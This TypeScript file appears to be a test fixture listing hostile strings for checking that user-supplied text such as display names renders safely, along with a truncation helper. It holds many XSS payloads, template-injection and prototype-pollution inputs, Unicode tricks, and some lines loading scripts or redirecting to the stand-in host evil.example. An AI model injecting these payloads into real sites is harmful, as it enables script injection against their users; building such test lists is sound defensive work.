const long = 'A'.repeat(2_000);

/**
 * What somebody writes who wants more than to be read: code, if a page takes it for markup, for an address, for a template,
 * for the name of a property, or for the direction of the text around it. `alert` is what tells. Most are short enough for
 * a display name. None is more than text.
 */
export const hostileTexts: readonly string[] = [
	// elements and handlers
	'<script>alert(1)</script>',
	'<ScRiPt>alert(1)</sCrIpT>',
	'"><script>alert(1)</script>',
	"'-alert(1)-'",
	'</title><script>alert(1)</script>',
	'</textarea><script>alert(1)</script>',
	'</script><script>alert(1)</script>',
	'<script src=//evil.example/x.js></script>',
	'<script src="data:text/javascript,alert(1)"></script>',
	'<img src=x onerror=alert(1)>',
	'"><img src=x onerror=alert(1)>',
	"'><img src=x onerror=alert(1) x='",
	'<img/src=x/onerror=alert(1)//',
	'<img src=//evil.example/p.gif>',
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
	'<body onload=alert(1)>',
	'<details open ontoggle=alert(1)>',
	'<input autofocus onfocus=alert(1)>',
	'<video><source onerror=alert(1)></video>',
	'<audio src=x onerror=alert(1)>',
	'<marquee onstart=alert(1)>',
	'<b onmouseover=alert(1)>hover</b>',
	'<iframe src=javascript:alert(1)></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="javascript:alert(1)">',
	'<embed src="javascript:alert(1)">',
	'<base href=//evil.example/>',
	'<meta http-equiv=refresh content="0;url=//evil.example">',
	'<link rel=stylesheet href=//evil.example/x.css>',
	'<style>@import "//evil.example/x.css";</style>',
	'<style>*{display:none}</style>',
	'" style="position:fixed;inset:0" onclick="alert(1)',
	// addresses
	'javascript:alert(1)',
	'JaVaScRiPt:alert(1)',
	'java\tscript:alert(1)',
	'https://a.example/"onmouseover="alert(1)',
	'http://javascript:alert(1)@a.example/',
	'[press](javascript:alert(1))',
	'![x](x"onerror="alert(1))',
	'data:text/html,<script>alert(1)</script>',
	'<a href="javascript:alert(1)">press</a>',
	'vbscript:alert(1)',
	// templates, entities and escapes
	'{{constructor.constructor("alert(1)")()}}',
	'${alert(1)} #{alert(1)} <%= alert(1) %>',
	'{@html "<img src=x onerror=alert(1)>"}',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;img src=x onerror=alert(1)&#62;',
	'\\u003cimg src=x onerror=alert(1)\\u003e',
	'%3Cscript%3Ealert(1)%3C/script%3E',
	'\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
	// what a parser writes otherwise than it read it
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<template><img src=x onerror=alert(1)></template>',
	'<form id=document><input name=body><input name=cookie>',
	// names of properties
	'__proto__',
	'constructor',
	'hasOwnProperty',
	'{__proto__} {constructor} {mention-guest1} {actor}',
	'{"__proto__":{"polluted":true}}',
	// letters that are none
	'\u202egnp.exe\u202c <img src=x onerror=alert(1)>',
	'\u2066\u2067RTL \u05d0\u05d1 \u0627\u0628 x',
	'a\u0000<img src=x onerror=alert(1)>\u0000b',
	'zero\u200bwidth\ufeff \u00ad<b>x</b>',
	'Z\u0351\u036b\u0343\u034b\u030d'.repeat(8),
	'\ud800<img src=x onerror=alert(1)>\udfff',
	// long
	`${long}<img src=x onerror=alert(1)>`,
	`<img src=x onerror=alert(1) ${'a=b '.repeat(500)}>`
];

/** What is left of a text in a field that has so many characters, and ends without white space. */
export const inField = (text: string, characters: number): string =>
	Array.from(text.trim()).slice(0, characters).join('').trim();
